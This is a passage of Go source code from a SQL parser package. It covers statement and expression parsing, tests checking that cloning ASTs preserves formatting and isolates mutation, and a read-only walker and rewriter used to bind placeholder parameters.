		case p.atKeyword("JOIN"), p.atKeyword("INNER"), p.atKeyword("LEFT"),
			p.atKeyword("RIGHT"), p.atKeyword("CROSS"):
			joinType, err := p.parseJoinType()
			if err != nil {
				return nil, err
			}
			ref, err := p.parseTableRef(joinType)
			if err != nil {
				return nil, err
			}
			if joinType != "CROSS" {
				if err := p.expectKeyword("ON"); err != nil {
					return nil, err
				}
				on, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				ref.On = on
			}
			refs = append(refs, ref)
		default:
			return refs, nil
		}
	}
}

func (p *Parser) parseJoinType() (string, error) {
	joinType := "INNER"
	switch p.tok.Text {
	case "LEFT", "RIGHT", "CROSS":
		joinType = p.tok.Text
		if err := p.advance(); err != nil {
			return "", err
		}
		if _, err := p.acceptKeyword("OUTER"); err != nil {
			return "", err
		}
	case "INNER":
		if err := p.advance(); err != nil {
			return "", err
		}
	}
	return joinType, p.expectKeyword("JOIN")
}

func (p *Parser) parseTableRef(join string) (TableRef, error) {
	if p.tok.Kind == TokenLParen {
		if err := p.advance(); err != nil {
			return TableRef{}, err
		}
		sub, err := p.parseSelect()
		if err != nil {
			return TableRef{}, err
		}
		if _, err := p.expect(TokenRParen); err != nil {
			return TableRef{}, err
		}
		ref := TableRef{Join: join, Subquery: sub}
		if ok, err := p.acceptKeyword("AS"); err != nil {
			return TableRef{}, err
		} else if ok || p.tok.Kind == TokenIdent {
			alias, err := p.expectIdent()
			if err != nil {
				return TableRef{}, err
			}
			ref.Alias = alias
		}
		return ref, nil
	}
	name, err := p.expectIdent()
	if err != nil {
		return TableRef{}, err
	}
	ref := TableRef{Name: name, Join: join}
	if ok, err := p.acceptKeyword("AS"); err != nil {
		return TableRef{}, err
	} else if ok {
		alias, err := p.expectIdent()
		if err != nil {
			return TableRef{}, err
		}
		ref.Alias = alias
	} else if p.tok.Kind == TokenIdent {
		ref.Alias = p.tok.Text
		if err := p.advance(); err != nil {
			return TableRef{}, err
		}
	}
	return ref, nil
}

func (p *Parser) parseOrderBy() ([]OrderItem, error) {
	if !p.atKeyword("ORDER") {
		return nil, nil
	}
	if err := p.advance(); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("BY"); err != nil {
		return nil, err
	}
	var items []OrderItem
	for {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		item := OrderItem{Expr: e}
		if ok, err := p.acceptKeyword("DESC"); err != nil {
			return nil, err
		} else if ok {
			item.Desc = true
		} else if _, err := p.acceptKeyword("ASC"); err != nil {
			return nil, err
		}
		items = append(items, item)
		if p.tok.Kind != TokenComma {
			return items, nil
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
}

func (p *Parser) parseLimit() (*Limit, error) {
	if !p.atKeyword("LIMIT") {
		return nil, nil
	}
	if err := p.advance(); err != nil {
		return nil, err
	}
	first, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	limit := &Limit{Count: first}
	switch {
	case p.tok.Kind == TokenComma:
		// LIMIT offset, count
		if err := p.advance(); err != nil {
			return nil, err
		}
		count, err := p.parsePrimary()
		if err != nil {
			return nil, err
		}
		limit.Offset = first
		limit.Count = count
	case p.atKeyword("OFFSET"):
		if err := p.advance(); err != nil {
			return nil, err
		}
		off, err := p.parsePrimary()
		if err != nil {
			return nil, err
		}
		limit.Offset = off
	}
	return limit, nil
}

func (p *Parser) parseInsert() (*InsertStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("INSERT"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("INTO"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	stmt := &InsertStmt{commentHolder: commentHolder{Comments: comments}, Table: table}

	if p.tok.Kind == TokenLParen {
		if err := p.advance(); err != nil {
			return nil, err
		}
		for {
			col, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			stmt.Columns = append(stmt.Columns, col)
			if p.tok.Kind != TokenComma {
				break
			}
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
		if _, err := p.expect(TokenRParen); err != nil {
			return nil, err
		}
	}

	if p.atKeyword("SELECT") {
		sel, err := p.parseSelect()
		if err != nil {
			return nil, err
		}
		stmt.Select = sel
		return stmt, nil
	}

	if err := p.expectKeyword("VALUES"); err != nil {
		return nil, err
	}
	for {
		if _, err := p.expect(TokenLParen); err != nil {
			return nil, err
		}
		var row []Expr
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			row = append(row, e)
			if p.tok.Kind != TokenComma {
				break
			}
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
		if _, err := p.expect(TokenRParen); err != nil {
			return nil, err
		}
		stmt.Rows = append(stmt.Rows, row)
		if p.tok.Kind != TokenComma {
			return stmt, nil
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
}

func (p *Parser) parseUpdate() (*UpdateStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("UPDATE"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("SET"); err != nil {
		return nil, err
	}
	stmt := &UpdateStmt{commentHolder: commentHolder{Comments: comments}, Table: table}
	for {
		col, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		if p.tok.Kind != TokenOperator || p.tok.Text != "=" {
			return nil, p.errorf("expected '=' in SET clause, found %q", p.tok.Text)
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		val, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		stmt.Sets = append(stmt.Sets, Assignment{Column: col, Value: val})
		if p.tok.Kind != TokenComma {
			break
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
	if ok, err := p.acceptKeyword("WHERE"); err != nil {
		return nil, err
	} else if ok {
		where, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		stmt.Where = where
	}
	orderBy, err := p.parseOrderBy()
	if err != nil {
		return nil, err
	}
	stmt.OrderBy = orderBy
	limit, err := p.parseLimit()
	if err != nil {
		return nil, err
	}
	stmt.Limit = limit
	return stmt, nil
}

func (p *Parser) parseDelete() (*DeleteStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("DELETE"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("FROM"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	stmt := &DeleteStmt{commentHolder: commentHolder{Comments: comments}, Table: table}
	if ok, err := p.acceptKeyword("WHERE"); err != nil {
		return nil, err
	} else if ok {
		where, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		stmt.Where = where
	}
	orderBy, err := p.parseOrderBy()
	if err != nil {
		return nil, err
	}
	stmt.OrderBy = orderBy
	limit, err := p.parseLimit()
	if err != nil {
		return nil, err
	}
	stmt.Limit = limit
	return stmt, nil
}

func (p *Parser) parseCreateTable() (*CreateTableStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("CREATE"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("TABLE"); err != nil {
		return nil, err
	}
	stmt := &CreateTableStmt{commentHolder: commentHolder{Comments: comments}}
	if p.atKeyword("IF") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expectKeyword("NOT"); err != nil {
			return nil, err
		}
		if err := p.expectKeyword("EXISTS"); err != nil {
			return nil, err
		}
		stmt.IfNotExists = true
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	stmt.Table = table
	if _, err := p.expect(TokenLParen); err != nil {
		return nil, err
	}
	for {
		col, err := p.parseColumnDef()
		if err != nil {
			return nil, err
		}
		stmt.Columns = append(stmt.Columns, col)
		if p.tok.Kind != TokenComma {
			break
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
	if _, err := p.expect(TokenRParen); err != nil {
		return nil, err
	}
	return stmt, nil
}

// canonicalColumnTypes maps SQL type keywords to the engine's canonical
// type names.
var canonicalColumnTypes = map[string]string{
	"INT": "INT", "INTEGER": "INT", "BIGINT": "INT",
	"FLOAT": "FLOAT", "DOUBLE": "FLOAT", "REAL": "FLOAT",
	"TEXT": "TEXT", "VARCHAR": "TEXT", "CHAR": "TEXT",
	"BOOL": "BOOL", "BOOLEAN": "BOOL",
	"DATETIME": "DATETIME",
}

func (p *Parser) parseColumnDef() (ColumnDef, error) {
	name, err := p.expectIdent()
	if err != nil {
		return ColumnDef{}, err
	}
	if p.tok.Kind != TokenKeyword {
		return ColumnDef{}, p.errorf("expected column type, found %s %q", p.tok.Kind, p.tok.Text)
	}
	canonical, ok := canonicalColumnTypes[p.tok.Text]
	if !ok {
		return ColumnDef{}, p.errorf("unsupported column type %q", p.tok.Text)
	}
	if err := p.advance(); err != nil {
		return ColumnDef{}, err
	}
	// Optional length: VARCHAR(255), INT(11) — parsed and ignored.
	if p.tok.Kind == TokenLParen {
		if err := p.advance(); err != nil {
			return ColumnDef{}, err
		}
		if _, err := p.expect(TokenInt); err != nil {
			return ColumnDef{}, err
		}
		if _, err := p.expect(TokenRParen); err != nil {
			return ColumnDef{}, err
		}
	}
	def := ColumnDef{Name: name, Type: canonical}
	for {
		switch {
		case p.atKeyword("PRIMARY"):
			if err := p.advance(); err != nil {
				return ColumnDef{}, err
			}
			if err := p.expectKeyword("KEY"); err != nil {
				return ColumnDef{}, err
			}
			def.PrimaryKey = true
		case p.atKeyword("AUTO_INCREMENT"):
			if err := p.advance(); err != nil {
				return ColumnDef{}, err
			}
			def.AutoIncrement = true
		case p.atKeyword("UNIQUE"):
			if err := p.advance(); err != nil {
				return ColumnDef{}, err
			}
			def.Unique = true
		case p.atKeyword("NOT"):
			if err := p.advance(); err != nil {
				return ColumnDef{}, err
			}
			if err := p.expectKeyword("NULL"); err != nil {
				return ColumnDef{}, err
			}
			def.NotNull = true
		case p.atKeyword("NULL"):
			if err := p.advance(); err != nil {
				return ColumnDef{}, err
			}
		case p.atKeyword("DEFAULT"):
			if err := p.advance(); err != nil {
				return ColumnDef{}, err
			}
			dflt, err := p.parsePrimary()
			if err != nil {
				return ColumnDef{}, err
			}
			def.Default = dflt
		default:
			return def, nil
		}
	}
}

func (p *Parser) parseDropTable() (*DropTableStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("DROP"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("TABLE"); err != nil {
		return nil, err
	}
	stmt := &DropTableStmt{commentHolder: commentHolder{Comments: comments}}
	if p.atKeyword("IF") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expectKeyword("EXISTS"); err != nil {
			return nil, err
		}
		stmt.IfExists = true
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	stmt.Table = table
	return stmt, nil
}

func (p *Parser) parseShowTables() (*ShowTablesStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("SHOW"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("TABLES"); err != nil {
		return nil, err
	}
	return &ShowTablesStmt{commentHolder: commentHolder{Comments: comments}}, nil
}

func (p *Parser) parseDescribe() (*DescribeStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("DESCRIBE"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	return &DescribeStmt{commentHolder: commentHolder{Comments: comments}, Table: table}, nil
}

func (p *Parser) parseExplain() (*ExplainStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("EXPLAIN"); err != nil {
		return nil, err
	}
	sel, err := p.parseSelect()
	if err != nil {
		return nil, err
	}
	return &ExplainStmt{commentHolder: commentHolder{Comments: comments}, Select: sel}, nil
}

// Expression parsing: precedence climbing.
//
//	OR/XOR < AND < NOT < comparison/IN/LIKE/BETWEEN/IS < additive <
//	multiplicative < unary < primary

func (p *Parser) parseExpr() (Expr, error) {
	return p.parseOr()
}

func (p *Parser) parseOr() (Expr, error) {
	left, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for {
		var op string
		switch {
		case p.atKeyword("OR"), p.tok.Kind == TokenOperator && p.tok.Text == "||":
			op = "OR"
		case p.atKeyword("XOR"):
			op = "XOR"
		default:
			return left, nil
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: op, Left: left, Right: right}
	}
}

func (p *Parser) parseAnd() (Expr, error) {
	left, err := p.parseNot()
	if err != nil {
		return nil, err
	}
	for p.atKeyword("AND") || (p.tok.Kind == TokenOperator && p.tok.Text == "&&") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: "AND", Left: left, Right: right}
	}
	return left, nil
}

func (p *Parser) parseNot() (Expr, error) {
	if p.atKeyword("NOT") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		operand, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		return &UnaryExpr{Op: "NOT", Operand: operand}, nil
	}
	return p.parseComparison()
}

// comparisonOps maps operator spellings to canonical forms.
var comparisonOps = map[string]string{
	"=": "=", "<>": "<>", "!=": "<>",
	"<": "<", "<=": "<=", ">": ">", ">=": ">=",
}

func (p *Parser) parseComparison() (Expr, error) {
	left, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	for {
		switch {
		case p.tok.Kind == TokenOperator && comparisonOps[p.tok.Text] != "":
			op := comparisonOps[p.tok.Text]
			if err := p.advance(); err != nil {
				return nil, err
			}
			right, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			left = &BinaryExpr{Op: op, Left: left, Right: right}
		case p.atKeyword("LIKE"):
			if err := p.advance(); err != nil {
				return nil, err
			}
			right, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			left = &BinaryExpr{Op: "LIKE", Left: left, Right: right}
		case p.atKeyword("IS"):
			if err := p.advance(); err != nil {
				return nil, err
			}
			not, err := p.acceptKeyword("NOT")
			if err != nil {
				return nil, err
			}
			if err := p.expectKeyword("NULL"); err != nil {
				return nil, err
			}
			left = &IsNullExpr{Not: not, Expr: left}
		case p.atKeyword("IN"):
			if err := p.advance(); err != nil {
				return nil, err
			}
			in, err := p.parseInTail(left, false)
			if err != nil {
				return nil, err
			}
			left = in
		case p.atKeyword("NOT"):
			// expr NOT IN / NOT LIKE / NOT BETWEEN
			if err := p.advance(); err != nil {
				return nil, err
			}
			switch {
			case p.atKeyword("IN"):
				if err := p.advance(); err != nil {
					return nil, err
				}
				in, err := p.parseInTail(left, true)
				if err != nil {
					return nil, err
				}
				left = in
			case p.atKeyword("LIKE"):
				if err := p.advance(); err != nil {
					return nil, err
				}
				right, err := p.parseAdditive()
				if err != nil {
					return nil, err
				}
				left = &UnaryExpr{Op: "NOT", Operand: &BinaryExpr{Op: "LIKE", Left: left, Right: right}}
			case p.atKeyword("BETWEEN"):
				if err := p.advance(); err != nil {
					return nil, err
				}
				between, err := p.parseBetweenTail(left, true)
				if err != nil {
					return nil, err
				}
				left = between
			default:
				return nil, p.errorf("expected IN, LIKE or BETWEEN after NOT")
			}
		case p.atKeyword("BETWEEN"):
			if err := p.advance(); err != nil {
				return nil, err
			}
			between, err := p.parseBetweenTail(left, false)
			if err != nil {
				return nil, err
			}
			left = between
		default:
			return left, nil
		}
	}
}

func (p *Parser) parseInTail(left Expr, not bool) (Expr, error) {
	if _, err := p.expect(TokenLParen); err != nil {
		return nil, err
	}
	if p.atKeyword("SELECT") {
		sub, err := p.parseSelect()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(TokenRParen); err != nil {
			return nil, err
		}
		return &InExpr{Not: not, Left: left, Subquery: sub}, nil
	}
	var list []Expr
	for {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		list = append(list, e)
		if p.tok.Kind != TokenComma {
			break
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
	if _, err := p.expect(TokenRParen); err != nil {
		return nil, err
	}
	return &InExpr{Not: not, Left: left, List: list}, nil
}

func (p *Parser) parseBetweenTail(left Expr, not bool) (Expr, error) {
	low, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("AND"); err != nil {
		return nil, err
	}
	high, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	return &BetweenExpr{Not: not, Expr: left, Low: low, High: high}, nil
}

func (p *Parser) parseAdditive() (Expr, error) {
	left, err := p.parseMultiplicative()
	if err != nil {
		return nil, err
	}
	for p.tok.Kind == TokenOperator && (p.tok.Text == "+" || p.tok.Text == "-") {
		op := p.tok.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseMultiplicative()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: op, Left: left, Right: right}
	}
	return left, nil
}

func (p *Parser) parseMultiplicative() (Expr, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for p.tok.Kind == TokenOperator && (p.tok.Text == "*" || p.tok.Text == "/" || p.tok.Text == "%") {
		op := p.tok.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: op, Left: left, Right: right}
	}
	return left, nil
}

func (p *Parser) parseUnary() (Expr, error) {
	if p.tok.Kind == TokenOperator && (p.tok.Text == "-" || p.tok.Text == "+") {
		op := p.tok.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		operand, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		// Fold unary minus into integer/float literals the way MySQL's
		// parser does, so "-1" is a single INT_ITEM in the QS.
		if op == "-" {
			if lit, ok := operand.(*Literal); ok {
				switch lit.Kind {
				case LiteralInt:
					return &Literal{Kind: LiteralInt, Int: -lit.Int}, nil
				case LiteralFloat:
					return &Literal{Kind: LiteralFloat, Float: -lit.Float}, nil
				}
			}
		}
		if op == "+" {
			return operand, nil
		}
		return &UnaryExpr{Op: op, Operand: operand}, nil
	}
	return p.parsePrimary()
}

func (p *Parser) parsePrimary() (Expr, error) {
	switch p.tok.Kind {
	case TokenInt:
		n, err := strconv.ParseInt(p.tok.Text, 10, 64)
		if err != nil {
			// Out-of-range integer literal: MySQL widens to double.
			f, ferr := strconv.ParseFloat(p.tok.Text, 64)
			if ferr != nil {
				return nil, p.errorf("invalid numeric literal %q", p.tok.Text)
			}
			if err := p.advance(); err != nil {
				return nil, err
			}
			return &Literal{Kind: LiteralFloat, Float: f}, nil
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &Literal{Kind: LiteralInt, Int: n}, nil
	case TokenFloat:
		f, err := strconv.ParseFloat(p.tok.Text, 64)
		if err != nil {
			return nil, p.errorf("invalid float literal %q", p.tok.Text)
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &Literal{Kind: LiteralFloat, Float: f}, nil
	case TokenString:
		s := p.tok.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &Literal{Kind: LiteralString, Str: s}, nil
	case TokenPlaceholder:
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &Placeholder{}, nil
	case TokenLParen:
		if err := p.advance(); err != nil {
			return nil, err
		}
		if p.atKeyword("SELECT") {
			sub, err := p.parseSelect()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(TokenRParen); err != nil {
				return nil, err
			}
			return &SubqueryExpr{Select: sub}, nil
		}
		inner, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(TokenRParen); err != nil {
			return nil, err
		}
		return inner, nil
	case TokenKeyword:
		switch p.tok.Text {
		case "NULL":
			if err := p.advance(); err != nil {
				return nil, err
			}
			return &Literal{Kind: LiteralNull}, nil
		case "TRUE":
			if err := p.advance(); err != nil {
				return nil, err
			}
			return &Literal{Kind: LiteralBool, Bool: true}, nil
		case "FALSE":
			if err := p.advance(); err != nil {
				return nil, err
			}
			return &Literal{Kind: LiteralBool, Bool: false}, nil
		case "EXISTS":
			if err := p.advance(); err != nil {
				return nil, err
			}
			if _, err := p.expect(TokenLParen); err != nil {
				return nil, err
			}
			sub, err := p.parseSelect()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(TokenRParen); err != nil {
				return nil, err
			}
			return &ExistsExpr{Select: sub}, nil
		case "NOT":
			if err := p.advance(); err != nil {
				return nil, err
			}
			operand, err := p.parsePrimary()
			if err != nil {
				return nil, err
			}
			return &UnaryExpr{Op: "NOT", Operand: operand}, nil
		case "CASE":
			return p.parseCase()
		case "IF", "LEFT", "RIGHT":
			// Keywords that double as function names: IF(c,a,b),
			// LEFT(s,n), RIGHT(s,n).
			name := p.tok.Text
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.tok.Kind != TokenLParen {
				return nil, p.errorf("expected '(' after %s", name)
			}
			return p.parseFuncCall(name)
		}
		return nil, p.errorf("unexpected keyword %q in expression", p.tok.Text)
	case TokenIdent:
		name := p.tok.Text
		if err := p.advance(); err != nil {
			return nil, err
		}
		switch p.tok.Kind {
		case TokenLParen:
			return p.parseFuncCall(name)
		case TokenDot:
			if err := p.advance(); err != nil {
				return nil, err
			}
			col, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			return &ColumnRef{Table: name, Name: col}, nil
		default:
			return &ColumnRef{Name: name}, nil
		}
	default:
		return nil, p.errorf("unexpected %s %q in expression", p.tok.Kind, p.tok.Text)
	}
}

// parseCase parses both CASE forms (operand and searched).
func (p *Parser) parseCase() (Expr, error) {
	if err := p.expectKeyword("CASE"); err != nil {
		return nil, err
	}
	c := &CaseExpr{}
	if !p.atKeyword("WHEN") {
		operand, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		c.Operand = operand
	}
	for p.atKeyword("WHEN") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expectKeyword("THEN"); err != nil {
			return nil, err
		}
		result, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		c.Whens = append(c.Whens, WhenClause{Cond: cond, Result: result})
	}
	if len(c.Whens) == 0 {
		return nil, p.errorf("CASE needs at least one WHEN arm")
	}
	if ok, err := p.acceptKeyword("ELSE"); err != nil {
		return nil, err
	} else if ok {
		elseExpr, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		c.Else = elseExpr
	}
	if err := p.expectKeyword("END"); err != nil {
		return nil, err
	}
	return c, nil
}

func (p *Parser) parseFuncCall(name string) (Expr, error) {
	if err := p.advance(); err != nil { // consume '('
		return nil, err
	}
	call := &FuncCall{Name: strings.ToUpper(name)}
	if p.tok.Kind == TokenRParen {
		return call, p.advance()
	}
	if p.tok.Kind == TokenOperator && p.tok.Text == "*" {
		call.Star = true
		if err := p.advance(); err != nil {
			return nil, err
		}
		_, err := p.expect(TokenRParen)
		return call, err
	}
	if ok, err := p.acceptKeyword("DISTINCT"); err != nil {
		return nil, err
	} else if ok {
		call.Distinct = true
	}
	for {
		arg, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		call.Args = append(call.Args, arg)
		if p.tok.Kind != TokenComma {
			break
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
	_, err := p.expect(TokenRParen)
	return call, err
}
