package sqlparser

import (
	"testing"
)

// cloneCorpus exercises every statement and expression node Clone handles.
var cloneCorpus = []string{
	"SELECT * FROM t",
	"SELECT DISTINCT a, b AS x, t.*, UPPER(c) FROM t WHERE a = 1 AND b <> 'x'",
	"SELECT a FROM t1 JOIN t2 ON t1.id = t2.id WHERE a IN (1, 2, 3) " +
		"GROUP BY a HAVING COUNT(*) > 1 ORDER BY a DESC LIMIT 5 OFFSET 2",
	"SELECT a FROM (SELECT a FROM u) d WHERE EXISTS (SELECT 1 FROM v) " +
		"AND a BETWEEN 1 AND 9 AND b IS NOT NULL",
	"SELECT a FROM t WHERE a = (SELECT MAX(a) FROM t) UNION ALL SELECT a FROM u",
	"SELECT CASE a WHEN 1 THEN 'one' ELSE 'many' END FROM t",
	"SELECT a FROM t WHERE a IN (SELECT b FROM u) AND NOT (b LIKE '%x%')",
	"SELECT a FROM t WHERE id = ? AND name = ?",
	"INSERT INTO t (a, b) VALUES (1, 'x'), (2, ?)",
	"INSERT INTO t (a) SELECT a FROM u WHERE a > 3",
	"UPDATE t SET a = ?, b = b + 1 WHERE id = ? ORDER BY a LIMIT 1",
	"DELETE FROM t WHERE a = ? ORDER BY a DESC LIMIT 2",
	"CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT NOT NULL)",
	"DROP TABLE IF EXISTS t",
	"SHOW TABLES",
	"DESCRIBE t",
	"EXPLAIN SELECT a FROM t WHERE id = 7",
	"/* ext-id */ SELECT a FROM t WHERE id = 1",
}

func TestCloneFormatsIdentically(t *testing.T) {
	for _, q := range cloneCorpus {
		stmt, err := Parse(q)
		if err != nil {
			t.Fatalf("parse %q: %v", q, err)
		}
		clone := Clone(stmt)
		if got, want := Format(clone), Format(stmt); got != want {
			t.Errorf("Clone(%q) formats as %q, want %q", q, got, want)
		}
		if len(clone.StatementComments()) != len(stmt.StatementComments()) {
			t.Errorf("Clone(%q) dropped comments", q)
		}
	}
}

// TestCloneIsolatesMutation: rewriting every placeholder (and literal) in
// the clone leaves the original untouched — the property the engine's
// parse cache depends on for ExecArgs.
func TestCloneIsolatesMutation(t *testing.T) {
	for _, q := range cloneCorpus {
		stmt, err := Parse(q)
		if err != nil {
			t.Fatalf("parse %q: %v", q, err)
		}
		before := Format(stmt)
		clone := Clone(stmt)
		err = RewriteExprs(clone, func(e Expr) (Expr, error) {
			switch e.(type) {
			case *Placeholder, *Literal:
				return &Literal{Kind: LiteralString, Str: "MUTATED"}, nil
			}
			return e, nil
		})
		if err != nil {
			t.Fatalf("rewrite %q: %v", q, err)
		}
		if got := Format(stmt); got != before {
			t.Errorf("mutating the clone changed the original:\n  %q\nbecame\n  %q", before, got)
		}
	}
}

func TestCloneNilSubtrees(t *testing.T) {
	if cloneSelect(nil) != nil {
		t.Error("cloneSelect(nil) != nil")
	}
	if cloneExpr(nil) != nil {
		t.Error("cloneExpr(nil) != nil")
	}
	if cloneLimit(nil) != nil {
		t.Error("cloneLimit(nil) != nil")
	}
}
