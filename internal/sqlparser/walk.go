package sqlparser

// RewriteFunc transforms one expression node. Returning the input
// unchanged leaves the tree as is; returning a different Expr replaces
// the node. Children are rewritten before their parents (post-order).
type RewriteFunc func(Expr) (Expr, error)

// RewriteExprs applies fn to every expression in the statement, in
// source order, replacing nodes with the returned values. It is used to
// bind placeholder parameters in the AST (engine.ExecArgs) without ever
// touching query text.
func RewriteExprs(stmt Statement, fn RewriteFunc) error {
	r := rewriter{fn: fn}
	return r.statement(stmt)
}

// WalkExprs calls visit for every expression in the statement, in source
// order. Unlike RewriteExprs it never writes to the tree — not even a
// store of an identical pointer — so it is safe to run concurrently on a
// statement shared between sessions (the engine's parse cache hands the
// same AST to every session executing the same text).
func WalkExprs(stmt Statement, visit func(Expr)) {
	w := walker{visit: visit}
	w.statement(stmt)
}

// walker is the read-only twin of rewriter: same post-order traversal,
// no assignments.
type walker struct {
	visit func(Expr)
}

func (w *walker) statement(stmt Statement) {
	switch s := stmt.(type) {
	case *SelectStmt:
		w.selectStmt(s)
	case *InsertStmt:
		for _, row := range s.Rows {
			for _, e := range row {
				w.expr(e)
			}
		}
		if s.Select != nil {
			w.selectStmt(s.Select)
		}
	case *UpdateStmt:
		for i := range s.Sets {
			w.expr(s.Sets[i].Value)
		}
		w.expr(s.Where)
		w.orderLimit(s.OrderBy, s.Limit)
	case *DeleteStmt:
		w.expr(s.Where)
		w.orderLimit(s.OrderBy, s.Limit)
	}
}

func (w *walker) selectStmt(s *SelectStmt) {
	for i := range s.Fields {
		if s.Fields[i].Expr != nil {
			w.expr(s.Fields[i].Expr)
		}
	}
	for i := range s.From {
		if s.From[i].Subquery != nil {
			w.selectStmt(s.From[i].Subquery)
		}
		if s.From[i].On != nil {
			w.expr(s.From[i].On)
		}
	}
	w.expr(s.Where)
	for _, e := range s.GroupBy {
		w.expr(e)
	}
	w.expr(s.Having)
	w.orderLimit(s.OrderBy, s.Limit)
	if s.Union != nil {
		w.selectStmt(s.Union.Next)
	}
}

func (w *walker) orderLimit(orderBy []OrderItem, limit *Limit) {
	for i := range orderBy {
		w.expr(orderBy[i].Expr)
	}
	if limit != nil {
		w.expr(limit.Count)
		if limit.Offset != nil {
			w.expr(limit.Offset)
		}
	}
}

// expr visits e's children, then e itself (post-order, matching
// rewriter). A nil expression — an absent optional clause — is skipped.
func (w *walker) expr(e Expr) {
	if e == nil {
		return
	}
	switch x := e.(type) {
	case *BinaryExpr:
		w.expr(x.Left)
		w.expr(x.Right)
	case *UnaryExpr:
		w.expr(x.Operand)
	case *FuncCall:
		for _, a := range x.Args {
			w.expr(a)
		}
	case *InExpr:
		w.expr(x.Left)
		for _, item := range x.List {
			w.expr(item)
		}
		if x.Subquery != nil {
			w.selectStmt(x.Subquery)
		}
	case *BetweenExpr:
		w.expr(x.Expr)
		w.expr(x.Low)
		w.expr(x.High)
	case *IsNullExpr:
		w.expr(x.Expr)
	case *SubqueryExpr:
		w.selectStmt(x.Select)
	case *ExistsExpr:
		w.selectStmt(x.Select)
	case *CaseExpr:
		if x.Operand != nil {
			w.expr(x.Operand)
		}
		for i := range x.Whens {
			w.expr(x.Whens[i].Cond)
			w.expr(x.Whens[i].Result)
		}
		if x.Else != nil {
			w.expr(x.Else)
		}
	}
	w.visit(e)
}

type rewriter struct {
	fn RewriteFunc
}

func (r *rewriter) statement(stmt Statement) error {
	switch s := stmt.(type) {
	case *SelectStmt:
		return r.selectStmt(s)
	case *InsertStmt:
		for _, row := range s.Rows {
			for i := range row {
				if err := r.rewrite(&row[i]); err != nil {
					return err
				}
			}
		}
		if s.Select != nil {
